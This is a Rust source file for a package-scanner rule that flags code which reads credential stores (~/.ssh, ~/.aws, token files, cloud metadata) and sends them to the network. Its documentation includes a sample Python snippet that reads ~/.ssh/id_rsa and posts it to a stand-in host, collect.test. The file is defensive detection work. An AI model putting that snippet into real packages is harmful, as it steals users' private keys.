//! Credentials are read and sent away.

use bulkhead_core::{Confidence, Severity};

use super::code::{Rule, beside, quoted, say, weigh_called, when};
use super::drop_service;
use crate::archive::Archive;
use crate::behaviour::{Ability, Sources, unasked};
use crate::detector::Meta;
use crate::findings::Findings;

const META: Meta = Meta {
    id: "credential-sent",
    title: "credentials are read and sent away",
    severity: Severity::Critical,
    confidence: Confidence::High,
    doc: "\
A place where credentials lie (`~/.ssh`, `~/.aws`, token files, cloud metadata) is read, and what was read flows to the network.

```recipe bad
archive demo-1.0-py3-none-any.whl
--- demo/__init__.py
import os, requests
key = open(os.path.expanduser('~/.ssh/id_rsa')).read()
requests.post('https://collect.test/', data=key)
```

```recipe good
archive demo-1.0-py3-none-any.whl
--- demo/auth.py
import netrc
def login(path='~/.netrc'):
    return netrc.netrc(path)
```

What to do: refuse the release; if it is your own, read the line that is shown.
",
};

/// See its `META`.
pub(crate) static DETECTOR: Rule = Rule { meta: &META, check };

fn check(archive: &Archive, findings: &mut Findings) {
    for behaviour in &archive.code.behaviours {
        let effect = &behaviour.effect;
        let sends = matches!(effect.ability, Ability::Network | Ability::Dns);
        if sends && unasked(behaviour.context) && effect.from.any(Sources::CREDENTIAL) {
            say(
                findings,
                &META,
                behaviour,
                (Severity::Critical, Confidence::High),
                format!("credentials go to the network {}: {}", when(behaviour.context), quoted(behaviour)),
            );
        } else if sends
            && effect.from.any(Sources::CREDENTIAL)
            && effect.detail.as_deref().is_some_and(drop_service::is_box)
        {
            say(
                findings,
                &META,
                behaviour,
                weigh_called(behaviour),
                format!("credentials go to a letter box {}: {}", when(behaviour.context), quoted(behaviour)),
            );
        } else if effect.ability == Ability::ReadCredential && unasked(behaviour.context) {
            let network = beside(archive, behaviour, Ability::Network, Sources::NONE);
            let weight =
                if network { (Severity::High, Confidence::Medium) } else { (Severity::Medium, Confidence::Low) };
            say(
                findings,
                &META,
                behaviour,
                weight,
                format!("a place where credentials lie is read {}: {}", when(behaviour.context), quoted(behaviour)),
            );
        } else if effect.ability == Ability::ReadCredential
            && beside(archive, behaviour, Ability::Network, Sources::CREDENTIAL)
        {
            say(
                findings,
                &META,
                behaviour,
                (Severity::Low, Confidence::Low),
                format!("a place where credentials lie is read: {}", quoted(behaviour)),
            );
        }
    }
}
